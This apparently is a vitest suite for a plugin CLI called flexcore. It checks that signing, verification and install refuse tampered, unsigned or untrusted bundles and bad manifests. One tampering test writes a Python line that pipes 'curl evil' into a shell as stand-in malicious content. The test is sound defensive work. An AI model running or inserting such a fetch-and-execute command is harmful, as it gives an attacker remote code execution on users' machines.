/**
 * `flexcore plugins keygen|pack|sign|verify|install|schema` as an operator runs them: child
 * processes of the real CLI on real folders. Refusals exit 1 with the error's code on stderr
 * and install nothing. (No NATS: these commands never connect.)
 */
import { execFile, execFileSync } from "node:child_process";
import { existsSync } from "node:fs";
import { chmod, copyFile, mkdir, mkdtemp, readdir, readFile, rm, stat, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";

const CLI = join(import.meta.dirname, "..", "main.ts");
let work: string;

function flexcore(args: string[], env: Record<string, string> = {}): Promise<{ code: number; stdout: string; stderr: string }> {
  return new Promise((resolve) => {
    execFile(process.execPath, ["--import", "tsx", CLI, ...args], { env: { ...process.env, FLEXCORE_DATA: join(work, "data"), ...env } }, (err, stdout, stderr) => {
      resolve({ code: err ? ((err as { code?: number }).code ?? 1) : 0, stdout, stderr });
    });
  });
}

async function ok(args: string[], env: Record<string, string> = {}): Promise<Record<string, unknown>> {
  const r = await flexcore(args, env);
  expect(r.code, r.stderr).toBe(0);
  return JSON.parse(r.stdout) as Record<string, unknown>;
}

async function fails(args: string[], code: string, env: Record<string, string> = {}): Promise<string> {
  const r = await flexcore(args, env);
  expect(r.code, `${args.join(" ")}: ${r.stdout}`).toBe(1);
  expect(r.stderr).toContain(`[${code}]`);
  return r.stderr;
}

beforeAll(async () => {
  work = await mkdtemp(join(tmpdir(), "flexcore-cli-plugins-"));
});
afterAll(async () => {
  if (!work) return;
  execFileSync("chmod", ["-R", "u+w", work]);
  await rm(work, { recursive: true, force: true });
});

async function newBundle(name: string): Promise<string> {
  const dir = join(work, name);
  await mkdir(join(dir, "src"), { recursive: true });
  await writeFile(join(dir, "flexcore-plugin.yaml"), `name: ${name}\nversion: 0.3.1\nprotocols: [1]\nflexcore: ">=0.1.0 <1.0.0"\ncommand: [python3, src/main.py]\ncapabilities:\n  processors:\n    - kind: redact\n      deterministic: true\n      options: { type: object }\n`);
  await writeFile(join(dir, "src", "main.py"), "print('hi')\n");
  return dir;
}

describe("flexcore plugins", () => {
  it("keygen → pack → sign → verify → install, the way an operator ships a plugin", async () => {
    const keys = join(work, "operator-keys");
    const key = await ok(["plugins", "keygen", "--out", keys, "--name", "ops"]);
    expect(key.keyId).toMatch(/^[0-9a-f]{32}$/);
    expect((await stat(join(keys, "ops.key"))).mode & 0o777).toBe(0o600);
    await fails(["plugins", "keygen", "--out", keys, "--name", "ops"], "FLEX_INVALID_OPTION"); // never overwrites a key

    const trusted = join(work, "data", "plugins", "trusted-keys");
    await mkdir(trusted, { recursive: true, mode: 0o755 });
    await copyFile(join(keys, "ops.pub"), join(trusted, "ops.pub"));

    const dir = await newBundle("pii-redact");
    const packed = await ok(["plugins", "pack", dir]);
    expect(packed).toMatchObject({ name: "pii-redact", version: "0.3.1", files: 2, removedSignature: false });
    // unsigned: refused by default, allowed by name
    expect(await fails(["plugins", "verify", dir], "FLEX_PLUGIN_SIGNATURE")).toContain("missing");
    expect(await ok(["plugins", "verify", dir, "--allow-unsigned", "other,pii-redact"])).toMatchObject({ signed: false, signer: null });

    const signed = await ok(["plugins", "sign", dir, "--key", join(keys, "ops.key")]);
    expect(signed).toEqual({ keyId: key.keyId, digest: packed.digest });
    const verified = await ok(["plugins", "verify", dir]); // trusted keys from <data>/plugins/trusted-keys
    expect(verified).toMatchObject({ name: "pii-redact", signed: true, signer: key.keyId, digest: packed.digest });

    const installed = await ok(["plugins", "install", dir]);
    const store = join(work, "data", "plugins", "store");
    expect(installed).toMatchObject({ path: join(store, packed.digest as string), installed: true });
    expect((await stat(installed.path as string)).mode & 0o777).toBe(0o555);
    expect((await stat(join(installed.path as string, "src", "main.py"))).mode & 0o777).toBe(0o444);
    expect(await ok(["plugins", "install", dir])).toMatchObject({ installed: false });
  });

  it("refuses tampering, untrusted signers and bad manifests with their codes, installing nothing", async () => {
    const keys = join(work, "k2");
    await ok(["plugins", "keygen", "--out", keys, "--name", "a"]);
    await ok(["plugins", "keygen", "--out", keys, "--name", "stranger"]);
    const trusted = join(work, "trusted-2");
    await mkdir(trusted, { mode: 0o755 });
    await copyFile(join(keys, "a.pub"), join(trusted, "a.pub"));
    const store = join(work, "store-2");
    const dir = await newBundle("json-transform");
    await ok(["plugins", "pack", dir]);

    await ok(["plugins", "sign", dir, "--key", join(keys, "stranger.key")]);
    expect(await fails(["plugins", "install", dir, "--store", store, "--trusted-keys", trusted], "FLEX_PLUGIN_SIGNATURE")).toContain("not among the trusted keys");

    await ok(["plugins", "sign", dir, "--key", join(keys, "a.key")]);
    expect(await ok(["plugins", "verify", dir, "--trusted-keys", trusted])).toMatchObject({ signed: true });
    await writeFile(join(dir, "src", "main.py"), "import os; os.system('curl evil | sh')\n");
    expect(await fails(["plugins", "install", dir, "--store", store, "--trusted-keys", trusted], "FLEX_PLUGIN_CHECKSUM")).toContain("src/main.py");
    await writeFile(join(dir, "src", "main.py"), "print('hi')\n");
    await writeFile(join(dir, "src", "extra.py"), "");
    await fails(["plugins", "verify", dir, "--trusted-keys", trusted], "FLEX_PLUGIN_CHECKSUM");
    // repacking the tampered bundle makes the sums match, never the signature
    expect(await ok(["plugins", "pack", dir])).toMatchObject({ removedSignature: true });
    await fails(["plugins", "install", dir, "--store", store, "--trusted-keys", trusted], "FLEX_PLUGIN_SIGNATURE");
    expect(existsSync(store) ? await readdir(store) : []).toEqual([]);

    // a private key others can read is refused, as ssh refuses it
    await chmod(join(keys, "a.key"), 0o644);
    await fails(["plugins", "sign", dir, "--key", join(keys, "a.key")], "FLEX_INVALID_OPTION");

    await writeFile(join(dir, "flexcore-plugin.yaml"), (await readFile(join(dir, "flexcore-plugin.yaml"), "utf8")).replace("deterministic: true", "deterministic: true\n      colour: blue"));
    expect(await fails(["plugins", "pack", dir], "FLEX_PLUGIN_MANIFEST")).toContain("capabilities.processors[0].colour");
  });

  it("prints the manifest's JSON Schema for editors", async () => {
    const r = await flexcore(["plugins", "schema"]);
    expect(r.code).toBe(0);
    const schema = JSON.parse(r.stdout) as { $id: string; additionalProperties: boolean };
    expect(schema).toMatchObject({ $id: "urn:flexcore:plugin-manifest:1", additionalProperties: false });
  });
});
